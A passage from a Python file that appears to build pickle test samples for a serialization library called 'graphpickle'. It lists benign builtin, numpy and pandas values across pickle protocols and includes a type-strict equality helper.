            "builtins: scalars and containers",
            {
                "int": 1,
                "big": 2**100,
                "float": 1.5,
                "str": "text",
                "bytes": b"\x00\xff",
                "none": None,
                "bool": True,
                "list": [1, [2]],
                "tuple": (1, (2,)),
                "set": {1, 2},
                "frozenset": frozenset({3}),
            },
            (2, 3, 4, 5),
        ),
        (
            "builtins: bytearray, complex, range, slice",
            [bytearray(b"ab"), complex(1, -2), range(1, 9, 2), slice(1, 5, 2)],
            (2, 4, 5),
        ),
        ("floats: inf, -0.0", [math.inf, -math.inf, -0.0, 1e-300], (2, 5)),
        (
            "collections",
            [
                collections.OrderedDict(a=1, b=2),
                collections.Counter("abracadabra"),
                collections.defaultdict(list, {"k": [1]}),
                collections.deque([1, 2, 3], maxlen=5),
            ],
            (2, 4, 5),
        ),
        (
            "datetime: naive and UTC",
            [
                datetime.datetime(2026, 11, 29, 12, 30, 1, 5),
                datetime.date(2026, 1, 1),
                datetime.time(23, 59),
                datetime.timedelta(days=-1, seconds=5),
                datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
                datetime.timezone(datetime.timedelta(hours=-5), "EST"),
            ],
            (2, 4, 5),
        ),
        (
            "datetime with zoneinfo",
            [datetime.datetime(2026, 3, 29, 3, tzinfo=paris), paris],
            (2, 5),
        ),
        (
            "Decimal, Fraction, UUID",
            [
                decimal.Decimal("-1.50"),
                decimal.Decimal("Infinity"),
                fractions.Fraction(-7, 3),
                uuid.UUID(int=2**127 + 5),
            ],
            (2, 4, 5),
        ),
        (
            "numpy arrays",
            [
                np.arange(12, dtype="<i8").reshape(3, 4),
                np.linspace(0, 1, 5, dtype="<f4"),
                np.array([True, False]),
                np.array([1 + 2j]),
                np.asfortranarray(np.ones((2, 3))),
                np.array(["a", "bc"]),
                np.array([b"x"]),
                np.array(3.5),
                np.zeros((0, 2)),
                np.array(["2026-01-01", "NaT"], dtype="M8[s]"),
                np.array([5], dtype="m8[ms]"),
            ],
            (2, 4, 5),
        ),
        (
            "numpy structured array and dtypes",
            [
                np.zeros(2, dtype=structured),
                structured,
                np.dtype(">u2"),
                np.dtype("M8[ns]"),
                np.dtype("U7"),
            ],
            (2, 5),
        ),
        (
            "numpy scalars",
            [
                np.float64(1.5),
                np.int8(-3),
                np.bool_(True),
                np.datetime64("2026-05-01"),
                np.str_("s"),
            ],
            (2, 5),
        ),
        ("pandas DataFrame with extension dtypes", frame, (2, 4, 5)),
        ("pandas Series: nullable Int64", pd.Series([1, None, 3], dtype="Int64", name="n"), (4, 5)),
        (
            "pandas Series: categorical",
            pd.Series(pd.Categorical(["b", "a"], categories=["a", "b"], ordered=True)),
            (4, 5),
        ),
        (
            "pandas Series: tz-aware",
            pd.Series(pd.date_range("2026-01-01", periods=2, tz="UTC")),
            (4, 5),
        ),
        (
            "pandas Series: period and interval",
            [
                pd.Series(pd.period_range("2026", periods=2, freq="Y")),
                pd.Series(pd.interval_range(0.0, 2.0)),
            ],
            (4, 5),
        ),
        (
            "pandas indexes",
            [
                pd.RangeIndex(0, 10, 2),
                pd.DatetimeIndex(["2026-01-01"], tz="Europe/Paris"),
                pd.period_range("2026-01", periods=2, freq="M"),
                pd.interval_range(0, 2),
                pd.CategoricalIndex(["a", "b"]),
                pd.MultiIndex.from_tuples([(1, "a"), (2, "b")], names=["n", "s"]),
                pd.timedelta_range("1D", periods=2),
            ],
            (4, 5),
        ),
        (
            "pandas scalars",
            [
                pd.Timestamp("2026-01-01", tz="UTC"),
                pd.Timedelta("1D2h"),
                pd.Period("2026-01", "M"),
                pd.Interval(0, 1),
            ],
            (2, 5),
        ),
    ]


def benign() -> list[Sample]:
    import graphpickle

    samples = []
    for name, value, protocols in _benign_values():
        for protocol in protocols:
            samples.append(
                Sample(
                    f"{name}, protocol {protocol}",
                    "benign",
                    pickle.dumps(value, protocol),
                    "",
                    value=value,
                )
            )
    plain = {"ids": list(range(5)), "tags": {"b", "a"}, "nested": ({"x": frozenset({1})}, b"raw")}
    samples.append(
        Sample(
            "graphpickle.dumps of plain data", "benign", graphpickle.dumps(plain), "", value=plain
        )
    )
    samples.append(
        Sample(
            "graphpickle.dumps(deterministic=True) with sets",
            "benign",
            graphpickle.dumps(plain, deterministic=True),
            "",
            value=plain,
        )
    )
    return samples


def same(a: Any, b: Any) -> bool:
    """Equal, of the same types, including numpy dtypes and pandas dtypes."""
    import numpy as np
    import pandas as pd

    if type(a) is not type(b):
        return False
    if isinstance(a, pd.DataFrame | pd.Series | pd.Index):
        check = {
            pd.DataFrame: pd.testing.assert_frame_equal,
            pd.Series: pd.testing.assert_series_equal,
        }.get(type(a), pd.testing.assert_index_equal)
        try:
            check(a, b, check_exact=True)
        except AssertionError:
            return False
        return True
    if isinstance(a, np.ndarray):
        return (
            a.dtype == b.dtype
            and a.shape == b.shape
            and a.tobytes() == b.tobytes()
            and a.flags.f_contiguous == b.flags.f_contiguous
        )
    if isinstance(a, list | tuple):
        return len(a) == len(b) and all(same(x, y) for x, y in zip(a, b, strict=True))
    if isinstance(a, dict):
        return list(a) == list(b) and all(same(a[k], b[k]) for k in a)
    if isinstance(a, collections.deque):
        return a.maxlen == b.maxlen and list(a) == list(b)
    if isinstance(a, float):
        return struct.pack("<d", a) == struct.pack("<d", b)
    if isinstance(a, decimal.Decimal):
        return str(a) == str(b)
    return bool(a == b)


if __name__ == "__main__":
    for sample in attacks() + benign():
        print(f"{sample.category:22} {len(sample.data):7,} B  {sample.effect:28} {sample.name}")
